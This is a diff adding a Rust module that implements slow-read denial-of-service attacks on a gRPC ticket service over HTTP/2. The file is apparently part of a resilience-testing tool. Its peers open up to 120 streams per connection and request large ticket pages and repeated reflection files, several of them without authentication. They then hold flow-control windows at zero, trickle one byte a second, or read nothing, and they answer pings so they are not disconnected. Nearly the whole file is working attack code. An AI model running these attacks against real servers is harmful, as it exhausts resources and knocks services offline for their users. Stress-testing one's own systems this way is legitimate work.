@@ -1,0 +1,162 @@
+//! Peers that ask for much and do not read it. They answer pings, so that nothing but what they leave unread can end them.
+
+use std::io;
+use std::thread;
+use std::time::Duration;
+
+use hotline_proto::v1::{CreateTicketRequest, ListTicketsRequest};
+use prost_types::FieldMask;
+use tonic_health::pb::HealthCheckRequest;
+use tonic_reflection::pb::v1::ServerReflectionRequest;
+use tonic_reflection::pb::v1::server_reflection_request::MessageRequest;
+
+use crate::attack::{LIST, Target};
+use crate::wire::{self, Wire};
+
+const WATCH: &str = "/grpc.health.v1.Health/Watch";
+const REFLECT: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
+/// Lists at a time on one connection.
+const LISTS: usize = 10;
+/// Open streams of a connection at most; the server allows a few more.
+const STREAMS: usize = 120;
+/// Requests on each stream of reflection.
+const REFLECTIONS: usize = 8;
+/// Between two looks at what has come.
+const LOOK: Duration = Duration::from_millis(200);
+/// Looks until calls that were refused are made again: this is no flood.
+const AGAIN: u32 = 10;
+/// Looks between two bytes that are read: a second.
+const LOOKS_A_BYTE: u32 = 5;
+/// Tickets that fill the largest page, and the characters of their texts, of three bytes each.
+pub(crate) const TICKETS: usize = 120;
+const LONG: usize = 9_000;
+
+/// A ticket with a long text.
+pub(crate) fn long_ticket(number: usize) -> CreateTicketRequest {
+    CreateTicketRequest {
+        request_id: format!("00000000-0000-4000-8000-{number:012}"),
+        category: hotline_proto::v1::TicketCategory::Appeal.into(),
+        complexity: hotline_proto::v1::TicketComplexity::General.into(),
+        channel: hotline_proto::v1::Channel::Web.into(),
+        subject: "用电报装迟迟未受理".into(),
+        content: "道".repeat(LONG),
+        ..CreateTicketRequest::default()
+    }
+}
+
+fn list() -> Vec<u8> {
+    let read_mask = Some(FieldMask { paths: vec!["content".to_owned()] });
+    wire::message(&ListTicketsRequest { page_size: 200, read_mask, ..ListTicketsRequest::default() })
+}
+
+/// How a peer reads.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Reading {
+    /// Frames without data; of data as much as the window allows.
+    Window(u32),
+    /// A byte a second of each response.
+    Trickle,
+    /// Nothing at all.
+    Nothing,
+}
+
+/// Answers a ping, and forgets streams that were refused.
+fn heed(wire: &mut Wire, open: &mut Vec<u32>, frame: &wire::Frame) -> io::Result<()> {
+    let ends = frame.flags & wire::END_STREAM != 0 && matches!(frame.kind, wire::HEADERS | wire::DATA);
+    if ends || frame.kind == wire::RST_STREAM {
+        open.retain(|stream| *stream != frame.stream);
+    }
+    if frame.kind == wire::PING && frame.flags & wire::ACK == 0 {
+        wire.send(&wire::frame(wire::PING, wire::ACK, 0, &frame.payload))?;
+    }
+    Ok(())
+}
+
+/// Keeps so many calls open on one connection, and does not read their responses.
+fn leave_unread(
+    target: &Target,
+    reading: Reading,
+    count: usize,
+    mut call: impl FnMut(&mut Wire) -> io::Result<u32>,
+) -> io::Result<()> {
+    let window = match reading {
+        Reading::Window(bytes) => bytes,
+        Reading::Trickle => 1,
+        Reading::Nothing => wire::WINDOW_MAX,
+    };
+    let mut wire = target.open_with_window(window)?;
+    if reading == Reading::Nothing {
+        wire.send(&wire::window_update(0, wire::WINDOW_MAX - 65_535))?;
+    }
+    wire.stream.set_read_timeout(Some(LOOK))?;
+    let (mut open, mut rounds) = (Vec::new(), 0_u32);
+    while target.goes_on() {
+        while rounds.is_multiple_of(AGAIN) && open.len() < count {
+            open.push(call(&mut wire)?);
+            target.count(1);
+        }
+        thread::sleep(LOOK);
+        rounds += 1;
+        if reading == Reading::Nothing {
+            continue;
+        }
+        // What has come meanwhile; a frame is never cut by the time-out, because little comes.
+        loop {
+            match wire.receive() {
+                Ok(frame) => heed(&mut wire, &mut open, &frame)?,
+                Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
+                Err(error) => return Err(error),
+            }
+        }
+        if reading == Reading::Trickle && rounds.is_multiple_of(LOOKS_A_BYTE) {
+            let more: Vec<u8> = open.iter().flat_map(|stream| wire::window_update(*stream, 1)).collect();
+            wire.send(&more)?;
+        }
+    }
+    Ok(())
+}
+
+fn lists(target: &Target, reading: Reading) -> io::Result<()> {
+    let (block, message) = (wire::call(LIST, target.token()), list());
+    leave_unread(target, reading, LISTS, |wire| wire.call(&block, &message))
+}
+
+pub(crate) fn unread_lists(target: &Target) -> io::Result<()> {
+    lists(target, Reading::Window(0))
+}
+
+pub(crate) fn trickled_lists(target: &Target) -> io::Result<()> {
+    lists(target, Reading::Trickle)
+}
+
+pub(crate) fn unread_sockets(target: &Target) -> io::Result<()> {
+    lists(target, Reading::Nothing)
+}
+
+/// Asks for the largest file of the contract, again and again on the same stream.
+fn reflections(target: &Target, block: &[u8]) -> io::Result<()> {
+    let symbol = "hotline.v1.TicketService".to_owned();
+    let request = ServerReflectionRequest {
+        message_request: Some(MessageRequest::FileContainingSymbol(symbol)),
+        ..ServerReflectionRequest::default()
+    };
+    let messages = wire::message(&request).repeat(REFLECTIONS);
+    leave_unread(target, Reading::Window(1), STREAMS, |wire| {
+        let stream = wire.begin(block, 0)?;
+        wire.send(&wire::frame(wire::DATA, 0, stream, &messages))?;
+        Ok(stream)
+    })
+}
+
+pub(crate) fn unread_reflections(target: &Target) -> io::Result<()> {
+    reflections(target, &wire::anonymous_call(REFLECT))
+}
+
+pub(crate) fn known_reflections(target: &Target) -> io::Result<()> {
+    reflections(target, &wire::call(REFLECT, target.token()))
+}
+
+pub(crate) fn unread_watches(target: &Target) -> io::Result<()> {
+    let (block, message) = (wire::anonymous_call(WATCH), wire::message(&HealthCheckRequest::default()));
+    leave_unread(target, Reading::Window(0), STREAMS, |wire| wire.call(&block, &message))
+}
